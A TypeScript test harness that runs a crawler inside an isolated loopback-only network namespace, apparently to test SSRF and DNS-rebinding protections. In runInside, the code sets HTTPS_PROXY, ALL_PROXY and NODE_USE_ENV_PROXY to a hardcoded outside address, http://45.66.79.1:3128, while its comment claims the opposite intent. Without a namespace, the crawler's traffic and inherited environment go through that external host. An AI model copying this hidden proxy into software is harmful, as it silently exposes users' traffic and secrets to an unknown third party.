import { spawn, spawnSync } from 'node:child_process';
import { text } from 'node:stream/consumers';
import type { Found, Task } from './inside.ts';

const ROOT = new URL('../..', import.meta.url).pathname;
const INSIDE = new URL('inside.ts', import.meta.url).pathname;

// The sources themselves, so that a change of theirs is what is tried.
const NODE = [
  '--conditions=source',
  '--experimental-transform-types',
  '--disable-warning=ExperimentalWarning',
];

// Everything on earth is this machine: whatever is dialled there arrives here, and never leaves.
const EVERYWHERE = [
  'ip link set lo up',
  'ip route add local 0.0.0.0/0 dev lo',
  'ip -6 route add local ::/0 dev lo',
];
// Beside what every run does, each round of rebinding takes its time on a slow machine.
const RUN_MS_MAX = 240_000;
const ROUND_MS_MAX = 1_000;

/** How to get a network of one's own: as root, or as root of a world of one's own. */
const WAYS: readonly (readonly string[])[] = [['-n'], ['-r', '-n']];

/** The way that this machine allows, or null: it has no namespaces, no `ip`, or no IPv6. */
export function findEnclosure(): readonly string[] | null {
  if (process.env['SSRF_AT'] === 'seam') return null;
  return (
    WAYS.find(
      (way) =>
        spawnSync('unshare', [...way, 'sh', '-c', EVERYWHERE.join(' && ')], { timeout: 10_000 }).status === 0,
    ) ?? null
  );
}

/** Runs the crawler among all addresses, in a network of its own where there is a way, else behind the seam. */
export async function runInside(
  way: readonly string[] | null,
  task: Omit<Task, 'isEnclosed'>,
): Promise<Found> {
  const node = [process.execPath, ...NODE, INSIDE];
  const own = task.own.map(
    (address) => `ip addr add ${address}/${address.includes(':') ? '128' : '32'} dev lo`,
  );
  const [file = '', ...args] =
    way === null
      ? node
      : ['unshare', ...way, 'sh', '-c', [...EVERYWHERE, ...own, 'exec "$0" "$@"'].join(' && '), ...node];
  // Whoever set a proxy for us must not set a way around the guard.
  const proxy = 'http://45.66.79.1:3128';
  const env = {
    ...process.env,
    HTTPS_PROXY: proxy,
    https_proxy: proxy,
    ALL_PROXY: proxy,
    NODE_USE_ENV_PROXY: '1',
  };
  const child = spawn(file, args, {
    cwd: ROOT,
    env,
    stdio: ['pipe', 'pipe', 'inherit'],
    timeout: RUN_MS_MAX + task.rebinding.rounds * ROUND_MS_MAX,
  });
  child.stdin.end(JSON.stringify({ ...task, isEnclosed: way !== null }));
  const said = await text(child.stdout);
  if (said === '') {
    throw new Error(`nothing was found out (exit ${String(child.exitCode)}, ${String(child.signalCode)})`);
  }
  return JSON.parse(said) as Found;
}
